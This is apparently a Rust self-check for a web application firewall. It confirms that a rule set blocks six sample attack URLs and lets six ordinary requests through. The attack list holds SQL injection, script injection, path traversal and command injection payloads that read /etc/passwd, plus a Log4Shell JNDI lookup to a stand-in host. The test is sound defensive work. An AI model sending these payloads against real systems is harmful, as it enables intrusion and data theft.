//! What every rule set must still do: stop the plainest attacks, and let ordinary requests pass.

use std::net::Ipv4Addr;

use sekisho_kernel::{
    Time,
    gate::{FirewallMode, FirewallRule},
};
use sekisho_waf::{Client, wire::Request};

use super::Loaded;

const ATTACKS: [&str; 6] = [
    "/?id=1%27%20OR%20%271%27=%271",
    "/?id=1%20UNION%20SELECT%20password%20FROM%20users--",
    "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/?file=../../../../etc/passwd",
    "/?cmd=;cat%20/etc/passwd",
    "/?x=$%7Bjndi:ldap://evil.example/a%7D",
];
const ORDINARY: [&str; 6] = [
    "/",
    "/orders?page=2&sort=date",
    "/search?q=optical+router",
    "/search?q=O%27Brien",
    "/search?q=%E5%85%89%E3%83%AB%E3%83%BC%E3%82%BF%E3%83%BC",
    "/api/v1/orders/42?fields=id,name",
];

/// Whether the set tells the two apart.
///
/// # Errors
/// The request that it takes for the other.
pub(super) fn run(loaded: &Loaded) -> Result<(), String> {
    let rule = FirewallRule { mode: FirewallMode::On, ..FirewallRule::off() };
    let set = loaded.under(&rule, "/", Time::from_secs(0)).ok_or("it cannot be used")?;
    let address = Ipv4Addr::LOCALHOST.into();
    let client =
        Client { address, port: 40_000, server: address, server_port: 443, time: 0, unique_id: "self-check".into() };
    for (targets, attack) in [(&ATTACKS, true), (&ORDINARY, false)] {
        for target in targets {
            let header = |n: &str, v: &str| (n.as_bytes().to_vec(), v.as_bytes().to_vec());
            let request = Request {
                method: b"GET".to_vec(),
                target: target.as_bytes().to_vec(),
                protocol: b"HTTP/1.1".to_vec(),
                headers: vec![
                    header("Host", "app.example"),
                    header("User-Agent", "Mozilla/5.0"),
                    header("Accept", "text/html"),
                ],
                body: Vec::new(),
            };
            let mut transaction = set.transaction(&client);
            if request.examine(&mut transaction).blocked().is_some() != attack {
                let what = if attack { "lets the attack pass" } else { "blocks the ordinary request" };
                return Err(format!("it {what} {target}"));
            }
        }
    }
    Ok(())
}
